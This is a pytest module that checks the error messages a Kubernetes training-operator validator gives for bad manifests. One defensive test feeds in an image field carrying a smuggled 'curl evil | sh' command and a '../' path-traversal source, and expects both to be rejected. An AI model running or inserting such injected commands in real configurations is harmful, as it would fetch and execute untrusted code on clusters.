"""Messages for bad manifests: each names the field path, what is allowed, and what was given."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from kubetune_operator.api.manifests import check_document
from kubetune_operator.api.v1alpha1 import duration_seconds
from tests.conftest import load_example

ABOVE_ZERO = "a Kubernetes quantity above zero such as 4, 500m, 16Gi"


def problems(manifest: dict[str, Any]) -> list[str]:
    return [str(p) for p in check_document(manifest, "job.yaml").problems]


def test_unknown_field_suggests_the_close_name(sentiment: dict[str, Any]) -> None:
    training = sentiment["spec"]["training"]
    training["learningrate"] = training.pop("learningRate")
    assert problems(sentiment) == [
        "spec.training.learningrate: unknown field; did you mean learningRate?"
    ]


def test_unknown_field_lists_the_allowed_ones(sentiment: dict[str, Any]) -> None:
    sentiment["spec"]["resources"]["zzz"] = 1
    message = problems(sentiment)[0]
    assert message.startswith("spec.resources.zzz: unknown field; allowed here: workers, ")
    assert "priorityClassName" in message


def test_unknown_field_inside_a_list(sentiment: dict[str, Any]) -> None:
    sentiment["spec"]["resources"]["tolerations"] = [{"key": "a", "efect": "NoSchedule"}]
    assert problems(sentiment) == [
        "spec.resources.tolerations[0].efect: unknown field; did you mean effect?"
    ]


def test_enum_lists_the_values_and_suggests(sentiment: dict[str, Any]) -> None:
    sentiment["spec"]["training"]["scheduler"] = "cosin"
    assert problems(sentiment) == [
        "spec.training.scheduler: must be one of linear, cosine, cosine-with-restarts, constant, "
        "polynomial, one-cycle (got 'cosin'); did you mean cosine?"
    ]


@pytest.mark.parametrize(
    ("section", "field", "value", "expected"),
    [
        ("training", "learningRate", -0.1, "must be > 0.0 (got -0.1)"),
        ("training", "epochs", 0, "must be >= 1 (got 0)"),
        ("training", "epochs", "3", "must be an integer (got str '3')"),
        ("training", "epochs", 2.5, "must be an integer (got float 2.5)"),
        ("training", "epochs", True, "must be an integer (got a boolean)"),
        ("training", "epochs", None, "must be an integer (got null)"),
        ("training", "learningRate", {"a": 1}, "must be a number (got a mapping)"),
        ("regularization", "labelSmoothing", 1.0, "must be < 1.0 (got 1.0)"),
        ("resources", "workers", 10**12, "must be <= 256 (got 1000000000000)"),
        ("resources", "workers", -4, "must be >= 1 (got -4)"),
        (
            "resources",
            "memory",
            "lots",
            f"must be {ABOVE_ZERO} (got 'lots')",
        ),
        ("runPolicy", "suspend", "yes please", "must be true or false (got str 'yes please')"),
        ("resources", "cpu", "-2", f"must be {ABOVE_ZERO} (got '-2')"),
        ("resources", "cpu", -2, "must be >= 1 (got -2)"),
        ("resources", "cpu", 0, "must be >= 1 (got 0)"),
        ("resources", "memory", "-4Gi", f"must be {ABOVE_ZERO} (got '-4Gi')"),
        ("resources", "memory", "0", f"must be {ABOVE_ZERO} (got '0')"),
        ("resources", "memory", "0.0Gi", f"must be {ABOVE_ZERO} (got '0.0Gi')"),
        ("resources", "sharedMemory", "-1", f"must be {ABOVE_ZERO} (got '-1')"),
        ("resources", "sharedMemory", "+0", f"must be {ABOVE_ZERO} (got '+0')"),
    ],
)
def test_values_out_of_range_or_of_the_wrong_type(
    sentiment: dict[str, Any], section: str, field: str, value: Any, expected: str
) -> None:
    sentiment["spec"].setdefault(section, {})[field] = value
    assert problems(sentiment) == [f"spec.{section}.{field}: {expected}"]


def test_missing_required_sections(sentiment: dict[str, Any]) -> None:
    del sentiment["spec"]["model"]
    del sentiment["spec"]["data"]["train"]
    assert problems(sentiment) == ["spec.model: is required", "spec.data.train: is required"]


def test_huge_strings_are_shortened_in_the_message(sentiment: dict[str, Any]) -> None:
    sentiment["spec"]["data"]["textColumn"] = "x" * 100_000
    [message] = problems(sentiment)
    assert message.startswith("spec.data.textColumn: must have at most 256 characters (got 100000)")
    assert len(message) < 120


def test_hostile_names_and_images(sentiment: dict[str, Any]) -> None:
    sentiment["metadata"]["name"] = "a" * 41
    sentiment["spec"]["resources"]["image"] = "trainer:1; curl evil | sh"
    sentiment["spec"]["model"]["source"] = "pvc://models/../../etc"
    assert problems(sentiment) == [
        "metadata.name: must have at most 40 characters (got 41)",
        "spec.model.source: pvc://CLAIM/PATH: the path must stay inside the claim (no '..')",
        "spec.resources.image: must be a container image reference such as "
        "registry.example/team/trainer:1.2 (got 'trainer:1; curl evil | sh')",
    ]


def test_messages_of_cross_field_rules(sentiment: dict[str, Any]) -> None:
    sentiment["spec"]["data"]["sensitiveColumns"] = []
    assert problems(sentiment) == [
        "spec.bias: the audit needs data.sensitiveColumns to name at least one column"
    ]


@pytest.mark.parametrize("value", ["8", 8, "7500m", "0.5", ".25", "16Gi", "1e3", "+2"])
def test_quantities_above_zero_are_accepted(sentiment: dict[str, Any], value: int | str) -> None:
    sentiment["spec"]["resources"].update(cpu=value, memory=value, sharedMemory=value)
    assert problems(sentiment) == []


def test_a_runtime_defaults_quantities_above_zero_too() -> None:
    runtime = copy.deepcopy(load_example("runtimes/small-cpu.yaml"))
    runtime["spec"]["defaults"]["resources"].update(cpu=-2, memory="-4Gi", sharedMemory="0")
    assert problems(runtime) == [
        "spec.defaults.resources.cpu: must be >= 1 (got -2)",
        f"spec.defaults.resources.memory: must be {ABOVE_ZERO} (got '-4Gi')",
        f"spec.defaults.resources.sharedMemory: must be {ABOVE_ZERO} (got '0')",
    ]


@pytest.mark.parametrize(
    ("label", "named"),
    [
        ("neg\u202eative", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("neg\x00", "U+0000"),
        ("\x1b[31mred", "U+001B"),
        ("a\u2066b", "U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("two\u2028lines", "U+2028 LINE SEPARATOR"),
    ],
)
def test_class_labels_with_control_characters_are_refused_by_code_point(
    every_section: dict[str, Any], label: str, named: str
) -> None:
    every_section["spec"]["model"]["labels"][1] = label
    every_section["spec"]["bias"]["positiveLabels"] = [label]
    why = "control and bidirectional-override characters would reach terminals and reports"
    assert problems(every_section) == [
        f"spec.model.labels[1]: must not contain {named}: {why}",
        f"spec.bias.positiveLabels[0]: must not contain {named}: {why}",
    ]


def test_class_labels_may_hold_any_printable_text(sentiment: dict[str, Any]) -> None:
    sentiment["spec"]["model"]["labels"] = ["négatif 👎", "👩\u200d💻 :x: [b]positif[/b]"]
    assert problems(sentiment) == []


@pytest.mark.parametrize(
    "name", ["cpu", "memory", "ephemeral-storage", "hugepages-2Mi", "gpu", "example/gpu"]
)
def test_gpu_resource_must_be_an_extended_resource_with_a_domain(
    sentiment: dict[str, Any], name: str
) -> None:
    # The name becomes the pods' request and limit: `memory` gave a 1-byte memory limit.
    sentiment["spec"]["resources"]["gpuResource"] = name
    assert problems(sentiment) == [
        "spec.resources.gpuResource: must be an extended resource name with a domain, such as "
        "nvidia.com/gpu or amd.com/gpu (not cpu, memory, ephemeral-storage or hugepages-*) "
        f"(got {name!r})"
    ]


@pytest.mark.parametrize("name", ["nvidia.com/gpu", "amd.com/gpu", "nvidia.com/mig-1g.5gb"])
def test_device_plugin_resources_are_gpu_resources(sentiment: dict[str, Any], name: str) -> None:
    sentiment["spec"]["resources"]["gpuResource"] = name
    assert problems(sentiment) == []


@pytest.mark.parametrize(
    ("text", "seconds"), [("90s", 90), ("30m", 1800), ("1h30m", 5400), ("2h5s", 7205)]
)
def test_durations_read_as_kubernetes_writes_them(text: str, seconds: int) -> None:
    assert duration_seconds(text) == seconds


@pytest.mark.parametrize("text", ["5s", "169h", "30", "1m1h", "", "-5m", "1.5h"])
def test_a_stall_timeout_out_of_range_or_form_is_refused_by_name(
    sentiment: dict[str, Any], text: str
) -> None:
    sentiment["spec"]["runPolicy"] = {"stallTimeout": text}
    (problem,) = problems(sentiment)
    assert problem.startswith("spec.runPolicy")
    assert "stallTimeout" in problem
